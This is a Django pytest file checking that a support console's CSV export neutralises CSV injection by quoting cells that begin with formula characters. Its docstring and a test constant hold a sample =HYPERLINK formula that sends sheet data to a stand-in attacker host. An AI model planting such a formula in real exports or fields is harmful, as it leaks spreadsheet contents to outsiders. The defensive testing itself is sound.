"""A CSV a lead downloads can't run a formula in their spreadsheet (OWASP: CSV injection).

A text cell starting with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets; a name like ``=HYPERLINK("https://evil.example/?"&A1,"Open")`` would send the
sheet's data away when clicked. Each such text cell leaves with a single quote in front; numbers
stay numbers, negative ones too."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse

from tests.quotes.repair import repair_case
from tests.support.factories import CustomerFactory, StaffFactory, TeamFactory
from touchpoint.insights.export import figure_csv
from touchpoint.insights.figures import Figure
from touchpoint.links.services import link_issue
from touchpoint.staff.models import Role, StaffUser

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def signed_in(user: StaffUser) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_a_staff_name_set_in_the_admin_leaves_the_insights_csv_as_text() -> None:
    # An admin names a new agent in the Django admin: the name is the formula.
    admin = signed_in(StaffFactory(username="root", is_staff=True, is_superuser=True, role=Role.ADMIN))
    care = TeamFactory(slug="care")
    added = admin.post(
        "/admin/staff/staffuser/add/",
        {
            "username": "mallory",
            "usable_password": "true",
            "password1": "a long enough pass phrase 42",
            "password2": "a long enough pass phrase 42",
            "first_name": FORMULA,
            "last_name": "",
            "email": "mallory@example.com",
            "role": Role.AGENT,
            "teams": [care.pk],
        },
    )
    assert added.status_code == 302, added.content.decode()[:2000]
    mallory = StaffUser.objects.get(username="mallory")
    # The agent writes a note on a case whose customer then rates us 5.
    case = repair_case(CustomerFactory(), "feedback_asked")
    agent = signed_in(mallory)
    page = agent.get(f"/console/cases/{case.reference}/").content.decode()
    nonce = re.search(r'name="nonce" value="([\w-]+)"', page)
    assert nonce is not None, page[:3000]
    noted = agent.post(
        f"/console/cases/{case.reference}/note/",
        {"version": case.version, "nonce": nonce.group(1), "text": "Called the customer."},
    )
    assert noted.status_code == 302
    case.refresh_from_db()
    rated = Client().post(
        reverse("portal:feedback_send", args=[link_issue(case=case)]),
        {"csat": "5", "comment": "Great", "version": case.version},
    )
    assert rated.status_code == 302

    lead = signed_in(StaffFactory(username="lead", role=Role.LEAD))
    response = lead.get("/console/insights/csat_by_agent.csv?days=all")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["person", "responses", "average", "share_4_or_5_pct"]
    assert ["'" + FORMULA, "1", "5.0", "100.0"] in rows
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 113 496 0000", "'+44 113 496 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ian Kearns", "Ian Kearns"),
        ("", ""),
    ],
)
def test_each_formula_start_is_quoted_and_numbers_stay_numbers(text: str, written: str) -> None:
    figure = Figure("f", "F", "what", ("name", "amount", "rate"), [(text, -12, -0.5), (None, 3, 1.25)])
    rows = list(csv.reader(io.StringIO(figure_csv(figure), newline="")))
    assert rows == [["name", "amount", "rate"], [written, "-12", "-0.5"], ["", "3", "1.25"]]
